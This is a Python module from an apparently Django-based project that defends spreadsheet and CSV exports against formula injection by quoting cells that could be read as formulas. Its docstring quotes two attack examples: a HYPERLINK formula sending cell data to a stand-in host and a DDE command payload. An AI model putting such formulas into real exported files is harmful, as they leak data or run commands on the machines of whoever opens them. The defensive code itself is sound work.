"""Cells of every spreadsheet and CSV export, safe from formula injection.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage return before
one) is read as a formula by Excel, LibreOffice Calc and Google Sheets: a staff name
`=HYPERLINK("https://evil.example/?"&B2,"Klik")` would become a live link that sends
the neighbouring cells away, and `=cmd|'/C calc'!A0` a DDE call. OWASP's "CSV Injection"
guidance: make such a cell text by putting a single quote in front of it. The
full-width forms (`＝＋－＠`, typed by East-Asian input methods) are treated the same,
because Excel converts them to their ASCII forms when it parses a cell.

`safe_cell` is the one place that decides; every CSV and XLSX writer of the project
passes its values through it (ekinerja/tests/test_export_injection.py checks every
export). Numbers stay numbers: an int, float or Decimal is returned as it is, and so is
text that is only a number (`-12.5`, `+62812345678`), which a spreadsheet reads as that
number, not as a formula. The org import removes the quote again (`unescape_cell`), so
that export → edit → import gives back the same names.
"""

from __future__ import annotations

import re
from typing import Any

from django.utils.functional import Promise

# OWASP: = + - @ TAB CR; with LF (a cell may begin on a new line) and the full-width forms.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*|[.,]\d+)([eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula. Leading spaces are
    skipped: some readers trim them before parsing."""
    if not text:
        return False
    stripped = text.lstrip(" \u3000")
    if text[0] not in FORMULA_STARTS and stripped[:1] not in FORMULA_STARTS:
        return False
    core = stripped.strip()
    # A lone "-" is the usual "nothing here" mark, and no formula.
    return core != "-" and _NUMBER.fullmatch(core) is None


def safe_cell(value: Any) -> Any:
    """`value` as an export cell: text that could be read as a formula gets a leading
    single quote; everything else (numbers, dates, None, ordinary text) is unchanged."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and is_formula_like(value):
        return QUOTE + value
    return value


def unescape_cell(text: str) -> str:
    """The inverse of safe_cell for text read back from an exported file."""
    if text.startswith(QUOTE) and is_formula_like(text[1:]):
        return text[1:]
    return text
